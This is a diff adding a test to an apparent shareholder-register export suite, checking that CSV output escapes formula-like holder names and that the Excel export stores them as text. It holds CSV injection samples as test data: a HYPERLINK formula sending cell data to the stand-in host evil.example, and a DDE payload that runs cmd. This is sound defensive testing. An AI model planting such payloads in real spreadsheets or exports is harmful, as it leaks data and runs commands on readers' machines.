@@ -50,6 +50,34 @@ describeEachDatabase('register export', (getDb) => {
     expect(progress.at(-1)).toBe(6);
   });
 
+  it('neutralises holder names a spreadsheet would run as a formula, in the CSV; the Excel file keeps them as text cells', async () => {
+    const ctx = testContext(getDb());
+    const security = await aSecurity(ctx);
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '普通,名称'];
+    // (a leading tab or carriage return cannot reach a holder's name, which is stored trimmed; csv.test.ts covers them)
+    for (const [i, name] of names.entries()) {
+      const inv = await anInvestor(ctx, name);
+      await issue(ctx, security, inv.shAccount, BigInt(1000 - i), '2024-01-02');
+    }
+    const csv = await writeRegisterFile(ctx, { securityId: security.id, date: '2024-03-01', format: 'csv' });
+    const records = parse((await buffer(ctx.files.read(csv.fileKey))).toString('utf8').slice(1)) as string[][];
+    expect(records.slice(1).map((r) => r[1])).toEqual([...names.slice(0, 4).map((n) => `'${n}`), '普通,名称']);
+    // numeric columns are left as numbers
+    expect(records.slice(1).map((r) => r[6])).toEqual(names.map((_, i) => String(1000 - i)));
+    expect(records.slice(1).every((r) => /^\d+$/.test(r[0]!) && /^\d+\.\d{4}$/.test(r[7]!))).toBe(true);
+
+    const xlsx = await writeRegisterFile(ctx, { securityId: security.id, date: '2024-03-01', format: 'xlsx' });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await buffer(ctx.files.read(xlsx.fileKey))) as unknown as ArrayBuffer);
+    const sheet = workbook.getWorksheet('股东名册')!;
+    for (const [i, name] of names.entries()) {
+      const cell = sheet.getRow(i + 2).getCell(2);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+      expect(cell.value).toBe(name);
+    }
+  });
+
   it('writes the Excel file: it opens and holds the same rows', async () => {
     const ctx = testContext(getDb());
     const { security, accounts } = await aRegister(ctx);
